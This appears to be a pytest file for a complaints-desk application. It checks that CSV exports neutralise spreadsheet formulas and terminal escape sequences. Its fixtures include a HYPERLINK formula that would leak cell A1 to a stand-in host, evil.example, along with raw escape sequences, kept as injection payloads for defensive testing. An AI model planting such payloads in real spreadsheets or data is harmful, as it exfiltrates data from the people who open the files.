"""CSV that opens safely in a spreadsheet: formulas neutralised, no terminal controls,
and every CSV cxdesk writes goes through exchange.csvfile."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
import sqlalchemy as sa

from cxdesk.exchange.csvfile import safe_cell, write_csv
from tests.factories import FIXED_NOW, SUPERVISOR, clerk_of

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"),
    ("+1 312 555 0100", "'+1 312 555 0100"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "' =1+1"),
    ("\r=1+1", "'\n=1+1"),
    # An escape sequence in front of a formula hid it from the old check.
    ("\x1b[0m=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
    ("\x1b]0;pwned\x07Ana", "Ana"),
    (" =1+1", "' =1+1"),
    (-5, "-5"),
    (3.5, "3.5"),
    (None, ""),
    (True, "true"),
    ("Window 1", "Window 1"),
])
def test_a_cell_is_shown_as_text_never_run(value, cell):
    assert safe_cell(value) == cell


def test_complaints_csv_with_contact_neutralises_formulas_and_escapes(db, db_url, office):
    """`cxdesk complaints list --format csv --with-contact` with a formula and raw escapes in
    the data (as an older cxdesk could have stored them, written here behind the domain's back)."""
    from click.testing import CliRunner

    from cxdesk.cli import main
    from cxdesk.domain import complaints as cx
    from cxdesk.store.models import ComplaintContact

    with db.session() as session:
        contact = cx.ContactDetails(name=FORMULA, phone="+1 312 555 0100",
                                    email='=HYPERLINK("http://evil.example")@x.org')
        complaint = cx.open_complaint(session, office, clerk_of(session, office), cx.ComplaintIntake(
            received_via="counter", category="wait_time", what_happened="Waited.", contact=contact, consent=True,
        ), FIXED_NOW)
        stored = session.get(ComplaintContact, complaint.id)
        assert stored.name == FORMULA  # the domain keeps the words; the CSV must not run them
        session.execute(sa.update(ComplaintContact).where(ComplaintContact.complaint_id == complaint.id)
                        .values(name="\x1b]0;pwned\x07" + FORMULA, phone="\x1b[31m+1 312 555 0100\x9b0m"))
        session.commit()
    result = CliRunner().invoke(main, ["--db", db_url, "complaints", "list", "--format", "csv", "--with-contact",
                                       "--staff", SUPERVISOR[0]], input=SUPERVISOR[2] + "\n")
    assert result.exit_code == 0, result.output
    body = result.output[result.output.index("reference,"):]
    assert "\x1b" not in body and not CONTROL.search(body.replace("\r\n", ""))
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["contact_name"] == "'" + FORMULA
    assert rows[0]["contact_phone"] == "'+1 312 555 0100"
    assert rows[0]["contact_email"] == "'" + '=HYPERLINK("http://evil.example")@x.org'
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_write_csv_quotes_and_counts():
    out = io.StringIO()
    assert write_csv(out, ("a", "b"), [{"a": "x,y", "b": "=1"}, {"a": 'say "hi"'}]) == 2
    assert out.getvalue() == 'a,b\r\n"x,y",\'=1\r\n"say ""hi""",\r\n'


def test_every_csv_cxdesk_writes_goes_through_csvfile():
    root = Path(__file__).resolve().parents[2]
    writers = []
    for source in [*(root / "cxdesk").rglob("*.py"), *(root / "screens").rglob("*.py")]:
        if source.name == "csvfile.py" and source.parent.name == "exchange":
            continue
        text = source.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\b|\.to_csv\(", text):
            writers.append(str(source.relative_to(root)))
    assert writers == []
